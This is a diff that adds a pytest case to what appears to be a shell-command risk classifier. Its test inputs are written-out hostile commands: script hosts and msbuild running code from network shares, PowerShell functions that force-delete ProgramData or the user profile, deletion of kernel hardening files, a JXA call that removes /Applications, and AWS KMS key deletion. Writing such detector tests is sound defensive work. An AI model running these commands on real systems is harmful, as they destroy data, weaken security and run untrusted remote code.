@@ -110,3 +110,43 @@ def test_round7_shapes(command: str, expected: RiskLevel) -> None:
 )
 def test_round7_scopes_and_channels(command: str, shell: str, expected: RiskLevel) -> None:
     assert level(command, shell) == expected
+
+
+@pytest.mark.parametrize(
+    "command,shell,expected",
+    [
+        # script hosts and msbuild with code from a share or a drop folder
+        ("cscript //B \\\\10.1.1.1\\pub\\s.js", "cmd", C),
+        ("mshta \\\\fs\\share\\a.hta", "cmd", C),
+        ("msbuild C:\\ProgramData\\t.proj", "cmd", C),
+        ("msbuild src\\App.csproj /t:Build", "cmd", M),
+        # PowerShell functions: the call's arguments are the parameters
+        (
+            "function Nuke($d) { Remove-Item $d -Recurse -Force }; Nuke C:\\ProgramData",
+            "powershell",
+            B,
+        ),
+        (
+            "function Purge { param($Path) Remove-Item -LiteralPath $Path -Recurse -Force }; "
+            "Purge -Path $env:USERPROFILE",
+            "powershell",
+            B,
+        ),
+        ("function Tidy($d) { Remove-Item $d -Recurse -Force }; Tidy .\\out", "powershell", D),
+        # loader/kernel/resolver settings deleted by name
+        ("rm -f /etc/modprobe.d/blacklist.conf", "bash", C),
+        ("rm /etc/sysctl.d/99-hardening.conf", "bash", C),
+        ("rm -f /etc/apache2/sites-enabled/000-default.conf", "bash", D),
+        # JXA file-manager deletes, data destroyed in the cloud
+        (
+            "osascript -l JavaScript -e '$.NSFileManager.defaultManager"
+            '.removeItemAtPathError("/Applications", null)\'',
+            "bash",
+            B,
+        ),
+        ("aws kms schedule-key-deletion --key-id k --pending-window-in-days 7", "bash", D),
+        ("aws kms cancel-key-deletion --key-id k", "bash", M),
+    ],
+)
+def test_round7_hosts_functions_and_settings(command: str, shell: str, expected: RiskLevel) -> None:
+    assert level(command, shell) == expected
